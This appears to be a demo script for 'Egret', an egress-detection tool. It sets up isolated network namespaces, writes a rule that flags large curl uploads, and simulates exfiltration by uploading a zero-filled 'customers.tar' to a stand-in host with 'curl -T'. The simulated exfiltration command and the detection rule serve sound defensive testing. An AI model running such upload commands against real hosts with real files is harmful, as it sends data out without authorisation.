#!/usr/bin/env bash
# Two hosts in network namespaces of their own: one uploads with curl, and
# Egret on it tells within seconds. Removes what it made.
#
#   examples/demo.sh [path of egret]
set -euo pipefail
egret=${1:-target/release/egret}
[ "$(id -u)" = 0 ] || { echo "demo: needs root for network namespaces: sudo make demo" >&2; exit 1; }

office=egret-office-$$ internet=egret-internet-$$
folder=$(mktemp -d)
clean_up() {
    kill $(jobs -p) 2>/dev/null || true
    wait 2>/dev/null || true
    ip netns del "$office" 2>/dev/null || true
    ip netns del "$internet" 2>/dev/null || true
    rm -rf "$folder"
}
trap clean_up EXIT

echo "demo: two namespaces, joined by a cable"
ip netns add "$office"
ip netns add "$internet"
ip link add eth0 netns "$office" type veth peer name eth0 netns "$internet"
ip -n "$office" addr add 198.51.100.2/32 dev eth0
ip -n "$internet" addr add 203.0.113.7/32 dev eth0
for name in "$office" "$internet"; do
    ip -n "$name" link set lo up
    ip -n "$name" link set eth0 up
    ip -n "$name" route add default dev eth0
done
in_office() { nsenter --net="/run/netns/$office" -- "$@"; }

cat > "$folder/sink.py" <<'PYTHON'
from http.server import BaseHTTPRequestHandler, HTTPServer

class Sink(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_PUT(self):
        left = int(self.headers["Content-Length"])
        while left > 0:
            left -= len(self.rfile.read(min(left, 1 << 16)))
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()
    def log_message(self, *arguments):
        pass

HTTPServer(("203.0.113.7", 80), Sink).serve_forever()
PYTHON
nsenter --net="/run/netns/$internet" -- python3 "$folder/sink.py" &

cat > "$folder/egret.yaml" <<YAML
capture: {interfaces: [eth0]}
rules: [$folder/rules.yaml]
state_dir: $folder/state
outputs: {console: {type: stdout}}
routing: {defaults: {outputs: [console], group_wait: 0s}}
YAML
cat > "$folder/rules.yaml" <<'YAML'
version: 1
rules:
  - id: curl-upload
    title: Large upload by curl
    severity: high
    match: {exe.name: curl, direction: outbound}
    group_by: [exe, user, dst.ip]
    window: 10s
    when: {payload_out: {gte: 5MB}}
YAML
nsenter --net="/run/netns/$office" -- "$egret" run --config "$folder/egret.yaml" > "$folder/alerts" 2> "$folder/log" &
watcher=$!
for _ in $(seq 100); do
    grep -q watching "$folder/log" && break
    kill -0 "$watcher" 2>/dev/null || { cat "$folder/log" >&2; exit 1; }
    sleep 0.1
done

until in_office bash -c '</dev/tcp/203.0.113.7/80' 2>/dev/null; do
    sleep 0.1
done

head -c 20000000 /dev/zero > "$folder/customers.tar"
echo "demo: curl -T customers.tar http://203.0.113.7/"
started=$(date +%s%N)
in_office curl -sS -T "$folder/customers.tar" http://203.0.113.7/
for _ in $(seq 100); do
    [ -s "$folder/alerts" ] && break
    sleep 0.1
done
[ -s "$folder/alerts" ] || { echo "demo: no alert within 10 s" >&2; cat "$folder/log" >&2; exit 1; }
echo "demo: after $((($(date +%s%N) - started) / 1000000)) ms egret says:"
echo
cat "$folder/alerts"
